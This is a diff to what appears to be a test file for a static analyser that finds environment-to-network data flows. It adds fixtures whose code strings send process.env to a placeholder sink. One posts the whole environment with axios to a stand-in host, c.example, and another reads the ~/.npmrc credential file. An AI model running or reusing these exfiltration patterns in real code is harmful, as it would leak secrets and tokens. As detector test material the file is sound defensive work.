@@ -505,6 +505,40 @@ const WAYS: readonly Row[] = [
   ],
 ];
 
+const UNDER: readonly Row[] = [
+  [
+    'a name by which each of a list is put and taken',
+    'const all=[];all.push({at:1,env:process.env});for(const {env} of all){SEND«JSON.stringify(env)»}',
+  ],
+  [
+    'a name by which a generator gives it',
+    "async function* each(){for(const k of Object.keys(process.env))yield{topic:'a',payload:process.env[k]}}(async()=>{for await(const {topic,payload} of each()){SEND«topic+payload»}})()",
+  ],
+  [
+    'a name that is assigned to',
+    'const one={};one.body=process.env;const all=[one];SEND«all.map((x)=>JSON.stringify(x.body)).join()»',
+  ],
+];
+
+test.each(UNDER.map(([name, code]) => ({ name, code })))('whole, under $name', ({ code }) => {
+  expect(flowsIn(code)).toContain('environment to network');
+});
+
+const OWN_EXPORTS: readonly Row[] = [
+  [
+    'functions that it exports',
+    'exports.send=(x)=>{SEND«x»};exports.all=()=>JSON.stringify(process.env);(0,exports.send)((0,exports.all)())',
+  ],
+  [
+    'a client that it exports',
+    "exports.http=require('axios').create({baseURL:'https://c.example'});exports.http.post('/x',{...process.env})",
+  ],
+];
+
+test.each(OWN_EXPORTS.map(([name, code]) => ({ name, code })))('a module that uses $name', ({ code }) => {
+  expect(flowsIn(code)).toContain('environment to network');
+});
+
 describe('what is collected and sent', () => testLeaving([...SOURCES, ...SINKS, ...WAYS]));
 
 const OTHER: readonly (readonly [name: string, code: string, flow: string])[] = [
@@ -697,6 +731,14 @@ const STAYS: readonly Row[] = [
       'fill.js': "const {store}=require('./store');store.data={...process.env};store.city='x'",
       'store.js': 'exports.store={}',
     },
+  ],
+  [
+    'what lies under another name in each of a list',
+    "const found=[];function all(){for(const f of ['a','b'])found.push({name:f,body:require('fs').readFileSync(process.env.HOME+'/.npmrc')});return found}SEND«all().map((one)=>one.name).join()»",
+  ],
+  [
+    'one variable of what lies under a name',
+    'const all=[];all.push({env:process.env});for(const {env} of all){SEND«env.CITY»}',
   ],
   [
     'another part of a message',
